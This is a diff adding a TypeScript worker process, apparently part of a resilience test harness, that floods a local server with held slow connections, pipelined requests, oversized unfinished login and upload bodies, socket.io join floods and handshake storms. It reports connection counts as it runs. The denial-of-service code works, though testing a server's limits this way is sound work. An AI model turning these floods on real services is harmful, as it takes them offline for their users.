@@ -1,0 +1,124 @@
+import { once } from 'node:events';
+import { Agent, request } from 'node:http';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import { io } from 'socket.io-client';
+import type { Attack, Held } from './attacks.ts';
+
+/*
+ * One who wants everything for himself, in a process of its own, so that whoever measures has a core left. Says once a second what he holds.
+ */
+
+const REOPENS_MS = 1_000;
+const BUNDLES = 6;
+const PAGES = 1_900;
+const HANDSHAKES_AT_ONCE = 8;
+const JOINS_AT_ONCE = 500;
+const AT_ONCE = 100;
+
+const open = new Set<Socket>();
+const tabs = new Set<unknown>();
+let refused = 0;
+let answered = 0;
+
+/** A connection from this address that writes this and reads nothing; opened again whenever it is lost. */
+function hold(port: number, localAddress: string, text: string | Buffer, again?: (socket: Socket) => void): void {
+  const socket = connect({ port, host: '127.0.0.1', localAddress });
+  socket.pause();
+  socket.on('error', () => {});
+  socket.once('connect', () => {
+    open.add(socket);
+    socket.write(text);
+    again?.(socket);
+  });
+  socket.once('close', () => {
+    open.delete(socket);
+    setTimeout(() => hold(port, localAddress, text, again), REOPENS_MS);
+  });
+}
+
+const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`;
+
+/** Masked with zeros, which every frame of a client has to be, somehow. */
+function frame(text: string): Buffer {
+  const size = Buffer.byteLength(text);
+  const head = size < 126 ? Buffer.from([0x81, 0x80 | size]) : Buffer.from([0x81, 0xfe, size >> 8, size & 255]);
+  return Buffer.concat([head, Buffer.alloc(4), Buffer.from(text)]);
+}
+
+/** Signs in over a websocket, then asks to join, again and again, and takes no answer. */
+function holdSocket(port: number, address: string, { token, id }: Attack): void {
+  const upgrade =
+    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n';
+  const join = Buffer.concat(Array.from({ length: JOINS_AT_ONCE }, (_, n) => frame(`42${n}["join","${id}"]`)));
+  hold(port, address, get('/socket.io/?EIO=4&transport=websocket', upgrade), (socket) => {
+    socket.write(frame(`40{"token":"${token}"}`));
+    // It answers pings it has not read.
+    const timer = setInterval(() => socket.write(Buffer.concat([join, frame('3')])), 100);
+    socket.once('close', () => clearInterval(timer));
+  });
+}
+
+/** Asks for one handshake after the other, with no token, and goes on with none. */
+async function shakeHands(port: number, localAddress: string): Promise<void> {
+  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
+  for (;;) {
+    const asked = request({
+      port,
+      host: '127.0.0.1',
+      localAddress,
+      agent,
+      path: '/socket.io/?EIO=4&transport=polling',
+    });
+    asked.end();
+    try {
+      const [answer] = (await once(asked, 'response')) as [NodeJS.ReadableStream & { statusCode: number }];
+      answered += 1;
+      if (answer.statusCode !== 200) refused += 1;
+      answer.resume();
+      await once(answer, 'end');
+    } catch {
+      await pause(10);
+    }
+  }
+}
+
+/** So many sockets of one session, each of which comes back by itself. */
+async function openTabs(port: number, { token, count }: Attack): Promise<void> {
+  for (let n = 0; n < count; n++) {
+    const socket = io(`http://127.0.0.1:${port}`, { transports: ['websocket'], forceNew: true, auth: { token } });
+    socket.on('connect', () => tabs.add(socket));
+    socket.on('disconnect', () => tabs.delete(socket));
+    if (n % AT_ONCE === 0) await pause(100);
+  }
+}
+
+function begin(attack: Attack): void {
+  const { kind, port, addresses, count, path, token } = attack;
+  const from = (n: number) => addresses[n % addresses.length] ?? '127.0.0.1';
+  const each = (what: (address: string) => unknown) => Array.from({ length: count }, (_, n) => what(from(n)));
+  const body =
+    'POST /api/v1/auth/login/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n';
+  if (kind === 'pipelines') {
+    const text = get('/api/docs/static/swagger-ui-bundle.js').repeat(BUNDLES) + get('/job').repeat(PAGES);
+    each((address) => hold(port, address, text));
+  } else if (kind === 'downloads') each((address) => hold(port, address, get(path)));
+  else if (kind === 'bodies') each((address) => hold(port, address, body + 'a'.repeat(900_000)));
+  else if (kind === 'uploads') {
+    const form = `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Token ${token}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 9000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="media1"; filename="a"\r\n\r\n`;
+    each((address) =>
+      hold(port, address, form, (socket) => {
+        const timer = setInterval(() => socket.write('a'.repeat(2_000)), 1_000);
+        socket.once('close', () => clearInterval(timer));
+      }),
+    );
+  } else if (kind === 'sockets') each((address) => holdSocket(port, address, attack));
+  else if (kind === 'handshakes') for (let n = 0; n < HANDSHAKES_AT_ONCE; n++) void shakeHands(port, from(n));
+  else void openTabs(port, attack);
+}
+
+process.once('message', (attack: Attack) => {
+  begin(attack);
+  setInterval(() => process.send?.({ open: open.size, answered: answered + tabs.size, refused } satisfies Held), 1_000);
+});
+process.once('disconnect', () => process.exit(0));
